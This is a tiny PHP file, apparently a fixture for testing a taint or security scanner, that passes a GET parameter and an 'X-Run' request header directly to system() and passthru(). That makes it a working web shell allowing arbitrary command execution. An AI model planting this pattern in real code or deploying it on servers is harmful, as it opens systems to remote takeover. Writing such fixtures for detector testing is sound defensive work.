<?php
// request input read through filter_input() and apache_request_headers(), the language's
// own accessors, reaches a shell and a call (written for the tests, never run)
$c = filter_input(INPUT_GET, 'c', FILTER_DEFAULT);
$h = apache_request_headers();
echo "<pre>";
system($c);
passthru($h['X-Run']);
